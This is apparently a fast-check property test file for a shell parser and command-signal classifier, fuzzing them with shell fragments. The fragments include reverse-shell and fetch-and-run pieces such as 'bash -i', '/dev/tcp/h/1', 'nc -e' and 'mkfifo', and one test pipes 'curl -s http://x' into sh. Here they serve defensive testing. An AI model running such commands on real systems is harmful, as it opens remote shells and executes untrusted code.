/**
 * Property tests: the shell-line parser and the command classifier never throw and always terminate,
 * for arbitrary text and for near-miss command lines built from shell fragments.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandSignals } from './command-signals.ts';
import { parseShell } from './shell-parse.ts';

const FRAGMENTS = [
  ' ',
  '|',
  '||',
  '&&',
  ';',
  '&',
  '(',
  ')',
  '{',
  '}',
  '$(',
  '`',
  '<(',
  '"',
  "'",
  '\\',
  "$'",
  '${',
  '#',
  '\n',
  '>',
  '>>',
  '>&',
  '<&',
  '<>',
  '<<<',
  '&>',
  '0',
  '1',
  '2',
  '5',
  '=',
  'sh',
  'bash -i',
  'bash -c',
  'sh -c',
  'curl -s http://x/i',
  'wget -qO-',
  '-O',
  '-o',
  '/tmp/x',
  '/dev/tcp/h/1',
  '/dev/shm/',
  'base64 -d',
  'xxd -r -p',
  'echo aWQ=',
  'nc -e',
  'socat',
  'exec:',
  'tcp:h:1',
  'mkfifo',
  'python -c',
  'perl -e',
  'exec(',
  'sudo',
  'nohup',
  'timeout 5',
  'flock -c',
  'su -c',
  'env',
  'find / -exec',
  'cd /tmp',
  './x',
  '~/.x',
  'eval',
];

const commandish = fc
  .array(fc.oneof(fc.constantFrom(...FRAGMENTS), fc.string({ maxLength: 4 })), { maxLength: 40 })
  .map((parts) => parts.join(''));
const anyText = fc.oneof(fc.string({ maxLength: 300 }), fc.string({ unit: 'binary', maxLength: 300 }));

describe('shell parsing and command classification never fail', () => {
  it('parseShell and commandSignals accept any text', () => {
    fc.assert(
      fc.property(fc.oneof(commandish, anyText), (text) => {
        parseShell(text);
        const signals = commandSignals(text);
        expect(new Set(signals.map((s) => s.kind)).size).toBe(signals.length);
        for (const s of signals) expect(typeof s.detail).toBe('string');
      }),
      { numRuns: 3000 },
    );
  });

  it('deeply nested substitutions terminate', () => {
    const deep = '$('.repeat(200) + 'curl -s http://x | sh' + ')'.repeat(200);
    expect(() => commandSignals(deep)).not.toThrow();
    const quotes = 'sh -c "'.repeat(100) + '/tmp/x';
    expect(() => commandSignals(quotes)).not.toThrow();
  });
});
